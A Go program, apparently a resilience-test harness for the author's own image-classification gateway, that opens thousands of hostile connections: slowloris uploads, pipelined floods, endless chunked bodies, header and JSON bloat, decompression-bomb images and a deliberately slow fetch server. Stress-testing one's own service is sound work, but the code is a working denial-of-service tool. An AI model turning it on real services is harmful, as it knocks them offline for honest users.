// Command attacker does to a gateway what one hostile client can do, with little bandwidth and little CPU of its own, so
// that what honest clients lose is lost to the gateway and not to this program:
//
//	attacker -target http://127.0.0.1:9696/predict [-kinds slow,huge] [-silent 200] [-costly 40] [-listen 127.0.0.1:9999] [-admin 127.0.0.1:9697]
//
// Kinds, and what each is meant to use up. Connections:
//
//	silent     1,100 connections (-silent) that send nothing: all that a gateway accepts (GATEWAY_MAX_CONNECTIONS)
//	half       10 that send half a request and shut down their sending side
//	slow       20 uploads of one byte a second
//	unread     40 that pipeline 64 kB of GETs and read no answer: worker threads, and memory for answers
//	floods     100 that pipeline 16 GETs of /ping each time their answers have arrived: cheap requests without end
//	unfinished 130 bodies of 1 MB without their last byte: the buffer for bodies (GATEWAY_MAX_BUFFERED_BYTES)
//
// Heads:
//
//	fields     500 uploads with 9,200 empty header fields in 60 kB: memory, and work of the event loop
//	heads      100 that pipeline 15 GETs with a head of 60 kB behind a POST: memory
//	blank      20 that send empty lines, 100 kB a second each: work of the event loop
//	digits     20 uploads whose length has 5,000 digits
//
// Bodies:
//
//	huge       two of 1 GB, by Content-Length, as fast as they are read
//	endless    two of chunks that don't end, a megabyte a second
//	bytes      two of chunks of one byte, half a megabyte a second each: work of the event loop
//	morsels    two of chunks of five bytes, likewise
//	forms      two forms of 1,000 parts, 4 MB of headers
//	extension  one chunk extension of 18 MB that never ends, then 20 bytes at a time: quadratic work, where there is any
//	json       two of 20 MB of JSON objects: memory, and the interpreter's lock
//
// Photos, two at a time:
//
//	pixels     a PNG of 24 kB that has 400 megapixels
//	text       a PNG of 16 kB with text that inflates to 16 MB
//	thin       a PNG of 1 x 52 million pixels: memory for each row
//	scans      a progressive JPEG of 500 kB with 6,000 scans: CPU that no deadline ends
//	runs       a BMP of 1 kB, run-length encoded, of 52 million pixels
//	segments   a JPEG with 3.3 million segments, 20 MB
//	chunks     a PNG with 1.6 million private chunks, 19 MB
//	profiles   a PNG with 19,000 colour profiles that inflate to 1 MB each
//	comments   a GIF with 10 million blocks of comment, 20 MB
//
// Valid photos that cost much to decode, on 40 connections (-costly), each made again a tenth of a second after its answer (large: a second):
//
//	costly     PNGs of 7 kB: 50 megapixels of 1 bit, interlaced
//	deep       PNGs of 0.4 MB: 50 megapixels of 16-bit RGBA, interlaced
//	refined    progressive JPEGs of 6 kB: 50 megapixels in 24 scans
//	middle     PNGs of 10 kB: 2 megapixels, that are light by the gateway's measure
//	large      plain JPEGs of 18 MB
//
// Photos' servers (with -listen, an address that the gateway may fetch from; this program listens there):
//
//	urls       three requests of two URLs each that are never answered: the workers
//	fetches    33 requests of one such URL each: all photos in flight
//	crumbs     33 of one URL whose answer has chunks of five bytes: the interpreter's lock, memory
//	pinches    33 of one URL whose answer's body arrives in packets of two bytes
//
// The admin port (with -admin): 100 connections that send nothing and 3 that read nothing: the kubelet's probes.
//
//	admin
//
// Any other connection that the gateway closes is made again after a second. The program prints "ready" when all kinds have begun,
// continues until SIGTERM, and then prints two lines of JSON: the answers' status codes, {"slow": {"408": 20}, …}, where ""
// counts connections that were closed without an answer; and the bytes that it sent, {"slow": 1234, …}.
package main

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/signal"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
)

const (
	pause = time.Second
	gb    = 1 << 30
)

type attack struct {
	end     context.Context
	address string
	head    string
	pause   time.Duration // before a connection is made again
	kinds   []string
	mutex   sync.Mutex
	answers map[string]map[string]int
	sent    map[string]*atomic.Int64
	begun   sync.WaitGroup
}

func main() {
	log.SetFlags(0)
	log.SetPrefix("attacker: ")
	target := flag.String("target", "", "`URL` to attack")
	kinds := flag.String("kinds", "", "which kinds, separated by commas (all but those that need another flag)")
	silent := flag.Int("silent", 1100, "connections of the kind silent")
	costly := flag.Int("costly", 40, "connections of each kind of costly photos")
	listen := flag.String("listen", "", "`address` for the slow server of photos")
	admin := flag.String("admin", "", "`address` of the admin port")
	flag.Parse()
	parsed, err := url.Parse(*target)
	if err != nil || parsed.Scheme != "http" || parsed.Host == "" {
		log.Fatalf("-target %q is no http://host:port/path", *target)
	}
	a := &attack{address: parsed.Host, pause: pause, answers: map[string]map[string]int{}, sent: map[string]*atomic.Int64{}}
	if *kinds != "" {
		a.kinds = strings.Split(*kinds, ",")
	}
	if parsed.Port() == "" {
		a.address = net.JoinHostPort(parsed.Hostname(), "80")
	}
	a.head = fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: ", parsed.RequestURI(), parsed.Host)
	end, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
	defer stop()
	a.end = end

	a.connections(*silent)
	a.heads()
	a.bodies()
	a.photos(*costly)
	if *listen != "" {
		a.photoServer(*listen)
	}
	if *admin != "" {
		a.address = *admin
		a.start("admin", 100, func(net.Conn) {})
		a.start("admin", 3, pipelined)
	}
	for _, kind := range a.kinds {
		if a.answers[kind] == nil {
			log.Fatalf("-kinds %s: there is no kind %s, or it needs -listen or -admin", *kinds, kind)
		}
	}
	a.begun.Wait()
	fmt.Println("ready")
	<-end.Done()
	a.mutex.Lock()
	defer a.mutex.Unlock()
	sent := map[string]int64{}
	for name, bytes := range a.sent {
		sent[name] = bytes.Load()
	}
	output := json.NewEncoder(os.Stdout)
	if err := errors.Join(output.Encode(a.answers), output.Encode(sent)); err != nil {
		log.Fatal(err)
	}
}

func (a *attack) connections(silent int) {
	upload := a.head + "image/jpeg\r\nContent-Length: 1048576\r\n\r\n"
	a.start("silent", silent, func(net.Conn) {})
	a.start("half", 10, func(conn net.Conn) {
		io.WriteString(conn, upload+"\xff\xd8")
		conn.(counting).Conn.(*net.TCPConn).CloseWrite()
	})
	a.start("slow", 20, func(conn net.Conn) { a.drip(conn, upload+"\xff\xd8", "\xff", time.Second) })
	a.startUnread("unread", 40)
	a.each("floods", 100, a.flood)
	a.start("unfinished", 130, func(conn net.Conn) {
		io.WriteString(conn, upload)
		conn.Write(make([]byte, 1048575))
	})
}

func (a *attack) heads() {
	var fields strings.Builder
	for number := range 9200 {
		fmt.Fprintf(&fields, "%x:\r\n", 0x1000+number)
	}
	upload := a.head + "image/jpeg\r\nContent-Length: "
	a.start("fields", 500, func(conn net.Conn) { io.WriteString(conn, upload+"1000\r\n"+fields.String()+"\r\n") })
	large := a.head + "image/jpeg\r\nContent-Length: 3\r\n\r\n\xff\xd8\xff"
	large += strings.Repeat("GET /ping HTTP/1.1\r\nX: "+strings.Repeat("y", 60_000)+"\r\n\r\n", 15)
	a.start("heads", 100, func(conn net.Conn) { io.WriteString(conn, large) })
	blank := strings.Repeat("\r\n", 5000)
	a.start("blank", 20, func(conn net.Conn) { a.drip(conn, blank, blank, 100*time.Millisecond) })
	a.start("digits", 20, func(conn net.Conn) { io.WriteString(conn, upload+strings.Repeat("9", 5000)+"\r\n\r\n") })
}

// flood asks for something cheap as often as it is answered.
func (a *attack) flood(conn net.Conn) {
	defer conn.Close()
	defer context.AfterFunc(a.end, func() { conn.Close() })()
	const batch = 16
	several := strings.Repeat("GET /ping HTTP/1.1\r\nHost: a\r\n\r\n", batch)
	answers := bufio.NewReader(conn)
	for {
		if _, err := io.WriteString(conn, several); err != nil {
			a.count("floods", "")
			return
		}
		for range batch {
			response, err := http.ReadResponse(answers, nil)
			if err != nil {
				a.count("floods", "")
				return
			}
			io.Copy(io.Discard, response.Body)
			a.count("floods", strconv.Itoa(response.StatusCode))
		}
	}
}

func (a *attack) bodies() {
	jpeg := a.head + "image/jpeg\r\n"
	a.start("huge", 2, func(conn net.Conn) {
		io.WriteString(conn, jpeg+"Content-Length: "+strconv.Itoa(gb)+"\r\n\r\n")
		piece := make([]byte, 64<<10)
		for sent := 0; sent < gb && a.end.Err() == nil; sent += len(piece) {
			if _, err := conn.Write(piece); err != nil {
				return
			}
		}
	})
	chunked := jpeg + "Transfer-Encoding: chunked\r\n\r\n"
	chunk := fmt.Sprintf("%x\r\n%s\r\n", 100<<10, make([]byte, 100<<10))
	a.start("endless", 2, func(conn net.Conn) { a.drip(conn, chunked, chunk, 100*time.Millisecond) })
	bytes := strings.Repeat("1\r\nx\r\n", 8500)
	a.start("bytes", 2, func(conn net.Conn) { a.drip(conn, chunked, bytes, 100*time.Millisecond) })
	morsels := strings.Repeat("5\r\nxxxxx\r\n", 5100)
	a.start("morsels", 2, func(conn net.Conn) { a.drip(conn, chunked, morsels, 100*time.Millisecond) })
	part := "--b\r\nContent-Disposition: form-data; " + strings.Repeat(`a="b"; `, 550) + "name=\"x\"\r\n\r\n\r\n"
	a.start("forms", 2, a.sends("multipart/form-data; boundary=b", []byte(strings.Repeat(part, 999)+"--b--\r\n")))
	extension := chunked + "1;a=" + strings.Repeat("y", 18<<20)
	a.start("extension", 1, func(conn net.Conn) { a.drip(conn, extension, strings.Repeat("y", 20), 10*time.Millisecond) })
	objects := `{"url":[` + strings.Repeat(`{"":0},`, 2_800_000) + `0]}`
	a.start("json", 2, a.sends("application/json", []byte(objects)))
}

func (a *attack) photos(costly int) {
	for _, photo := range hostilePhotos {
		if a.wanted(photo.kind) {
			a.start(photo.kind, 2, a.sends(photo.mediaType, photo.make()))
		}
	}
	for _, photo := range costlyPhotos {
		if a.wanted(photo.kind) {
			a.pause = photo.pause
			a.start(photo.kind, costly, a.sends(photo.mediaType, photo.make()))
		}
	}
	a.pause = pause
}

// photoServer has the gateway fetch from here: /slow.jpg is never answered, the others are answered at great length.
func (a *attack) photoServer(address string) {
	listener, err := net.Listen("tcp", address)
	if err != nil {
		log.Fatal(err)
	}
	context.AfterFunc(a.end, func() { listener.Close() })
	url := "http://" + listener.Addr().String()
	single := func(path string) func(net.Conn) {
		return a.sends("application/json", fmt.Appendf(nil, `{"url": %q}`, url+path))
	}
	a.start("fetches", 33, single("/slow.jpg"))
	a.start("crumbs", 33, single("/crumbs.jpg"))
	a.start("pinches", 33, single("/pinches.jpg"))
	a.head = strings.Replace(a.head, "/predict ", "/classify ", 1)
	a.start("urls", 3, a.sends("application/json", fmt.Appendf(nil, `{"urls": [%q, %q]}`, url+"/slow.jpg", url+"/slow.jpg")))
	go func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			go a.answer(conn)
		}
	}()
}

func (a *attack) answer(conn net.Conn) {
	defer conn.Close()
	request, err := http.ReadRequest(bufio.NewReader(conn))
	if err != nil {
		return
	}
	counted := counting{conn, a.sent[strings.TrimSuffix(request.URL.Path[1:], ".jpg")]}
	head := "HTTP/1.1 200 OK\r\nContent-Type: image/jpeg\r\n"
	switch request.URL.Path {
	case "/crumbs.jpg":
		crumbs := strings.Repeat("5\r\nxxxxx\r\n", 6000)
		a.drip(counted, head+"Transfer-Encoding: chunked\r\n\r\n", crumbs, 20*time.Millisecond)
	case "/pinches.jpg":
		a.drip(counted, head+"Content-Length: 20000000\r\n\r\n", "xx", time.Millisecond)
	default:
		io.Copy(io.Discard, conn)
	}
}

// pipelined asks for more than it will ever read.
func pipelined(conn net.Conn) {
	conn.(counting).Conn.(*net.TCPConn).SetReadBuffer(4096)
	io.WriteString(conn, strings.Repeat("GET /openapi.yaml HTTP/1.1\r\nHost: a\r\n\r\n", 1560))
}

func (a *attack) wanted(name string) bool { return a.kinds == nil || slices.Contains(a.kinds, name) }

// startUnread has clients ask and read nothing until the gateway closes their connections.
func (a *attack) startUnread(name string, count int) {
	a.each(name, count, func(conn net.Conn) {
		defer conn.Close()
		go pipelined(conn)
		// What was sent stays unread; a write that fails says that the connection was closed.
		for a.end.Err() == nil {
			time.Sleep(pause)
			if _, err := io.WriteString(conn, "\r\n"); err != nil {
				a.count(name, "")
				return
			}
		}
	})
}

// start has clients connect, send, and wait for the answer, again and again.
func (a *attack) start(name string, count int, send func(net.Conn)) {
	a.each(name, count, func(conn net.Conn) { a.receive(name, conn, send) })
}

// each has clients connect again and again.
func (a *attack) each(name string, count int, use func(net.Conn)) {
	if !a.wanted(name) {
		return
	}
	if a.answers[name] == nil {
		a.answers[name] = map[string]int{}
		a.sent[name] = &atomic.Int64{}
	}
	sent := a.sent[name]
	address, wait := a.address, a.pause
	a.begun.Add(count)
	for range count {
		go func() {
			first := sync.OnceFunc(a.begun.Done)
			for a.end.Err() == nil {
				conn, err := net.DialTimeout("tcp", address, 10*time.Second)
				first()
				if err == nil {
					use(counting{conn, sent})
				}
				time.Sleep(wait)
			}
		}()
	}
}

// counting is a connection that counts what is sent on it.
type counting struct {
	net.Conn
	sent *atomic.Int64
}

func (c counting) Write(data []byte) (int, error) {
	count, err := c.Conn.Write(data)
	c.sent.Add(int64(count))
	return count, err
}

// receive counts the answer, which may be there before all is sent.
func (a *attack) receive(name string, conn net.Conn, send func(net.Conn)) {
	defer conn.Close()
	defer context.AfterFunc(a.end, func() { conn.Close() })()
	go send(conn)
	status := ""
	if response, err := http.ReadResponse(bufio.NewReader(conn), nil); err == nil {
		status = strconv.Itoa(response.StatusCode)
	}
	a.count(name, status)
}

func (a *attack) count(name, status string) {
	if a.end.Err() == nil {
		a.mutex.Lock()
		a.answers[name][status]++
		a.mutex.Unlock()
	}
}

func (a *attack) drip(conn net.Conn, head, piece string, every time.Duration) {
	_, err := io.WriteString(conn, head)
	for err == nil && a.end.Err() == nil {
		time.Sleep(every)
		_, err = io.WriteString(conn, piece)
	}
}

func (a *attack) sends(mediaType string, body []byte) func(net.Conn) {
	request := fmt.Appendf(nil, "%s%s\r\nContent-Length: %d\r\n\r\n%s", a.head, mediaType, len(body), body)
	return func(conn net.Conn) { conn.Write(request) }
}
